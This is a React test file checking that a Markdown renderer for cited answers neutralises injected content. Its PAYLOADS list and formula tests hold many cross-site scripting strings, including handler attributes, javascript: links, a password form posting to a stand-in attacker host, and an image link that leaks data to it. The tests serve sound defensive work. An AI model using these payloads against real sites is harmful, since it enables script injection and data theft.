import type { CitationView } from "@aika/client";
import { fireEvent, render, screen, waitFor } from "@testing-library/react";
import { expect, test, vi } from "vitest";
import { pagesOf } from "./addresses.ts";
import { AnswerMarkdown, DocumentMarkdown } from "./markdown.tsx";

const CITED = "https://docs.example.com/release";

const PAYLOADS: readonly [string, string][] = [
  ["a script element", "<script>window.hacked = true</script>"],
  ["an image with a handler", '<img src=x onerror="window.hacked = true">'],
  ["a picture with a handler, inline", 'Look <svg onload="window.hacked = true"><circle/></svg> here'],
  ["a frame", '<iframe src="javascript:window.hacked = true"></iframe>'],
  ["a frame's document", '<iframe srcdoc="<script>parent.hacked = true</script>"></iframe>'],
  ["a form", '<form action="https://evil.example"><input name="password"><button>go</button></form>'],
  ["a style sheet", "<style>* { background: url(https://evil.example/x) }</style>"],
  ["an embedded object", '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example">'],
  ["a base address", '<base href="https://evil.example/">'],
  ["a meta refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
  ["a link to a script", "[press](javascript:window.hacked=true)"],
  ["a link to a script in disguise", "[press](JaVaScRiPt&colon;alert`1`)"],
  ["a link with a control character", "[press](java\u0000script:alert(1))"],
  ["a link to data", "[press](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"],
  ["a link to visual basic", "[press](vbscript:msgbox(1))"],
  ["an automatic link", "<javascript:alert(1)> and <https://evil.example/a>"],
  ["a picture elsewhere", "![secrets](https://evil.example/?leak=secret)"],
  ["a picture of data", "![x](data:image/svg+xml,<svg/onload=alert(1)>)"],
  ["a reference to a link", "[press][evil]\n\n[evil]: javascript:alert(1)"],
  ["a footnote that is a link", "[1]\n\n[1]: https://evil.example/x"],
  ["a reference to a picture", "![x][evil]\n\n[evil]: https://evil.example/x.png"],
  ["a footnote of Markdown", "Text[^1]\n\n[^1]: <img src=x onerror=alert(1)>"],
  ["a heading with markup", "# <img src=x onerror=alert(1)>"],
  ["a table with markup", "| a |\n|---|\n| <img src=x onerror=alert(1)> |"],
  ["a name of a language", '```"><img/src=x/onerror=alert(1)>\ncode\n```'],
  ["an unfinished element", '<img src="x" onerror="alert(1)'],
  ["a comment", "<!-- --><script>alert(1)</script><!-- -->"],
  ["a CDATA section", "<![CDATA[<script>alert(1)</script>]]>"],
  ["an address with a password", "[press](https://docs.example.com@evil.example/release)"],
];

function citation(marker: number): CitationView {
  return {
    marker,
    document: {
      id: "d1",
      source: "handbook",
      key: "release.md",
      title: "Release process",
      kind: "page",
      url: CITED,
      owner: null,
      modified_at: null,
      status: null,
    },
    quote: "The canary takes 15 minutes.",
    start: 0,
    end: 10,
    url: `${CITED}#canary`,
    heading_path: [],
    support: 1,
  };
}

function shown(text: string, streaming = false, onOpen?: (marker: number) => void) {
  return render(
    <AnswerMarkdown
      text={text}
      streaming={streaming}
      citations={new Map([[1, citation(1)]])}
      pages={pagesOf([CITED])}
      provisional={false}
      {...(onOpen ? { onOpen } : {})}
    />,
  ).container;
}

function dangers(container: HTMLElement): string[] {
  const found: string[] = [];
  for (const element of container.querySelectorAll("*")) {
    const name = element.tagName.toLowerCase();
    if (/^(script|iframe|object|embed|form|style|base|meta|link|img|svg|math|video|audio|template)$/.test(name)) {
      // The icons of our own buttons are the only drawings.
      if (!(name === "svg" && element.closest("button") !== null)) found.push(name);
    }
    for (const { name: attribute, value } of element.attributes) {
      if (/^on/i.test(attribute) || attribute === "srcdoc" || attribute === "style") found.push(attribute);
      if (/^(href|src|action|formaction|xlink:href)$/.test(attribute) && value !== CITED)
        found.push(`${attribute}=${value}`);
    }
  }
  return found;
}

test.each(PAYLOADS)("%s is shown and does nothing", (_, payload) => {
  const container = shown(payload);

  expect(dangers(container)).toEqual([]);
  expect(container.textContent?.trim()).not.toBe("");
  expect(window).not.toHaveProperty("hacked");
});

test.each(PAYLOADS)("%s does nothing while it is still arriving", (_, payload) => {
  for (let length = 1; length < payload.length; length += 3) {
    const { container, unmount } = render(
      <AnswerMarkdown text={payload.slice(0, length)} streaming citations={new Map()} pages={new Set()} provisional />,
    );
    expect(dangers(container)).toEqual([]);
    unmount();
  }
});

test.each(PAYLOADS)("%s does nothing in a document", (_, payload) => {
  const { container } = render(<DocumentMarkdown text={payload} span={null} />);

  expect(dangers(container)).toEqual([]);
});

test("a link to a cited document is a link, also to a part of it", () => {
  shown(`See [the process](${CITED}).`);

  const link = screen.getByRole("link", { name: "the process" });
  expect(link.getAttribute("href")).toBe(CITED);
  expect(link.getAttribute("rel")).toBe("noreferrer noopener");
});

test("a link elsewhere is text that hides nothing", () => {
  const container = shown("See [the process](https://evil.example/x).");

  expect(screen.queryByRole("link")).toBeNull();
  expect(container.textContent).toBe("See the process https://evil.example/x.");
});

test("a link whose address is still arriving shows its words alone", () => {
  const container = shown("See [the process](https://docs.exam", true);

  expect(container.textContent).toBe("See the process");
});

test("raw HTML is read as it was written, and a line break in a table breaks the line", () => {
  const container = shown("A <b>bold</b> claim.\n\n| a |\n|---|\n| x<br>y |");

  expect(container.textContent).toContain("A <b>bold</b> claim.");
  expect(container.querySelector("td br")).not.toBeNull();
});

test("a footnote's number opens its passage, by pointer and by keyboard", () => {
  const opened = vi.fn();
  shown("It takes 15 minutes [1].", false, opened);

  const chip = screen.getByRole("button", { name: "Source 1: Release process" });
  fireEvent.click(chip);
  fireEvent.keyDown(chip, { key: "Enter" });

  expect(opened.mock.calls).toEqual([[1], [1]]);
});

test("numbers in code and in brackets without a citation stay what they are", () => {
  const container = shown("Use `list[1]`, as in [7].\n\n```\na[1]\n```");

  expect(screen.queryByRole("button", { name: /Source/ })).toBeNull();
  expect(container.textContent).toContain("list[1]");
  expect(container.textContent).toContain("[7]");
});

test("a number does not begin a line: it is bound to the word before it", () => {
  const container = shown("It takes minutes [1].");

  expect(container.textContent).toBe("It takes minutes\u00a01.");
});

test.each([
  ["a link in a formula", "$$\\href{javascript:alert(1)}{x}$$"],
  ["an address in a formula", "$$\\url{javascript:alert(1)}$$"],
  ["a picture in a formula", "$$\\includegraphics{https://evil.example/x.png}$$"],
  ["a style in a formula", "$$\\htmlStyle{background:url(https://evil.example)}{x}$$"],
  ["data in a formula", "$$\\htmlData{x=y}{z}$$"],
  ["a formula without end", "$$\\def\\a{\\a\\a}\\a$$"],
])("%s leads nowhere", async (_, formula) => {
  const container = shown(`Here ${formula} there`);
  await waitFor(() => expect(container.querySelector(".aika-formula")).not.toBeNull());
  await import("./draw-formula.ts");
  await Promise.resolve();

  expect(container.querySelector("a, img, [data-x], script, iframe")).toBeNull();
  const attributes = [...container.querySelectorAll("*")].flatMap((element) => [...element.attributes]);
  expect(attributes.filter(({ name, value }) => /^(src|href)$/.test(name) || /url\(/.test(value))).toEqual([]);
});

test("a formula is drawn, and can be read as mathematics", async () => {
  const container = shown("The area is $\\pi r^2$.");

  await waitFor(() => expect(container.querySelector(".katex math")).not.toBeNull());
});

test("amounts of money are no formula", () => {
  const container = shown("Plans cost $5 and $10 a month.");

  expect(container.textContent).toBe("Plans cost $5 and $10 a month.");
});

test("a document's passage is marked across its markup", () => {
  const text = "# Title\n\nBefore. Sends **ten** percent `now`. After.";
  const start = text.indexOf("Sends");
  const { container } = render(<DocumentMarkdown text={text} span={{ start, end: text.indexOf(" After") }} />);

  const marked = [...container.querySelectorAll("[data-passage]")].map((mark) => mark.textContent).join("");
  expect(marked).toBe("Sends ten percent now.");
});
